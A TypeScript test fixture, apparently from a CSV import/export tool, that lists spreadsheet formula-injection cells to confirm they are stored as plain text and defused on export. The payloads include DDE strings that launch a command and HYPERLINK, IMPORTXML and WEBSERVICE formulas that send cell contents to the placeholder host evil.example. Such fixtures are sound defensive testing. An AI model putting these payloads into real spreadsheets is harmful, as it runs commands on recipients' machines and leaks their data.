// Cells that a sheet would run. They are customers' words and stay as they were; what leaves the program as CSV
// is made harmless (tests/integration/hostile-changing.test.ts takes the rejected rows out again).
import { type BadInput, imported } from './bad-input.ts';

export const FORMULA_CELLS = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/c calc";"x")',
  "+1+cmd|'/c calc'!A0",
  "-1+cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '|cmd',
  '"=1+1"',
  "'=1+1",
  ';=1+1',
  '=\n=1+1',
  '%0A=1+1',
] as const;

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;

/** Words are trimmed, and lose the apostrophe that another program put before a formula. */
const asWords = (cell: string): string => cell.trim().replace(/^'(?==)/u, '');

export const FORMULAS: readonly BadInput[] = [
  imported(
    `${FORMULA_CELLS.length} formulas as words`,
    'a.csv',
    `id,comment\n${FORMULA_CELLS.map((cell, at) => `${at},${quoted(cell)}\n`).join('')}`,
    { created: FORMULA_CELLS.length },
    { words: FORMULA_CELLS.map(asWords) },
  ),
  imported(
    'formulas as headers, ids and tags',
    'a.csv',
    '=1+1,id,tags,comment\n@x,=2+2,"=3+3, +4",words\n',
    { created: 1 },
    { items: [{ verbatim: 'words', sourceId: '=2+2', tags: ['=3+3', '+4'], extra: { '=1+1': '@x' } }] },
  ),
];
